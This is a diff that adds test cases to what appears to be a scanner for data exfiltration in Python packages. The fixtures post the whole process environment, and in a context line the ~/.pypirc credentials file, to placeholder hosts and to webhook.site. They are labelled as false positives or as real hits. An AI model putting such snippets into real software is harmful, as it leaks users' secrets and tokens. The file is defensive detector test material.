@@ -316,6 +316,17 @@ CASES = [
       "    requests.post('https://x.example', data=open(os.path.expanduser('~/.pypirc')).read())\n",
       "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n"},
      "code.exfiltration", L, "FP regression: a virtualenv committed into the sdist is not shipped code"),
+    ({"demo/report.py": "import os, json, requests\nreport = dict(os.environ)\n"
+                        "if input('Send the report? (y/n) ') == 'y':\n"
+                        "    requests.post('https://api.example.org/reports', json.dumps(report))\n"},
+     "code.exfiltration", L, "FP regression: a report tool asks the person before sending"),
+    ({"demo/report.py": "import os, json, requests, click\nreport = dict(os.environ)\n"
+                        "if click.confirm('Send?'):\n"
+                        "    requests.post('https://webhook.site/x', json.dumps(report))\n"},
+     "code.exfiltration", H, "asking does not excuse a receiver made for stolen data"),
+    ({"demo/report.py": "import os, json, requests\nreport = dict(os.environ)\n"
+                        "requests.post('https://api.example.org/reports', json.dumps(report))\n"},
+     "code.exfiltration", H, "the environment posted without asking, when called"),
     # ---- version helpers in setup.py's reach (versioneer-style), mypyc-style wrappers
     ({"demo-1.0/setup.py": "import versioner\nfrom setuptools import setup\nsetup(version=versioner.v())\n",
       "demo-1.0/versioner.py": (
